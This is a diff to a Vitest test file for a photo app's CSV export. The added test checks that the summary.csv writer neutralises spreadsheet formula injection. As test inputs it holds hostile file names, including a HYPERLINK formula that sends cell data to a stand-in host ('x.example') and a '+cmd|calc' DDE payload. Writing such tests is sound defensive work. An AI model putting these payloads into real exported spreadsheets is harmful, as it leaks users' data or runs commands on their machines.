@@ -1,5 +1,5 @@
 import { describe, it, expect } from 'vitest';
-import { toCsv, parseCsv, csvCell, CSV_COLUMNS } from '../../../../src/features/photo/batch-csv.ts';
+import { toCsv, parseCsv, csvCell, CSV_COLUMNS, fixSummaryCsv, FIX_SUMMARY_COLUMNS } from '../../../../src/features/photo/batch-csv.ts';
 import type { PhotoReport } from '../../../../src/features/photo/report-types.ts';
 
 const report = (over: Partial<PhotoReport> = {}): PhotoReport => ({
@@ -51,5 +51,26 @@ describe('batch CSV (CONTRACT.md)', () => {
   it('neutralises spreadsheet formulas in file names', () => {
     expect(csvCell('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`);
     expect(csvCell('+1.jpg')).toBe("'+1.jpg");
+  });
+});
+
+describe('summary.csv of the 全部自动修正 zip (issue 16 item 5): the same writer as the batch CSV', () => {
+  it('a hostile file name neither becomes a formula nor shifts the columns', () => {
+    const name = '=HYPERLINK("http://x.example/?"&A1,"click"),z.jpg';
+    const text = fixSummaryCsv([
+      { file: name, result: 'ok', bytes: 31000, quality: 85, reason: null },
+      { file: '@SUM(1+1)\r\nb.jpg', result: 'failed', bytes: null, quality: null, reason: '头部倾斜, 无法修正\n请重拍' },
+      { file: '-2+3.jpg', result: 'failed', bytes: null, quality: null, reason: '+cmd|calc' },
+    ]);
+    expect(text.startsWith('\uFEFFfile,result,bytes,quality,reason\r\n')).toBe(true);
+    const rows = parseCsv(text);
+    expect(rows).toHaveLength(3);
+    expect(Object.keys(rows[0])).toEqual([...FIX_SUMMARY_COLUMNS]);
+    expect(rows[0]).toEqual({ file: `'${name}`, result: 'ok', bytes: '31000', quality: '85', reason: '' });
+    expect(rows[1].file).toBe("'@SUM(1+1)\r\nb.jpg");
+    expect(rows[1].reason).toBe('头部倾斜, 无法修正\n请重拍');
+    expect(rows[2]).toMatchObject({ file: "'-2+3.jpg", reason: "'+cmd|calc" });
+    // No cell of the raw text starts with a formula character.
+    for (const r of rows) for (const v of Object.values(r)) expect(v).not.toMatch(/^[=+\-@\t\r]/);
   });
 });
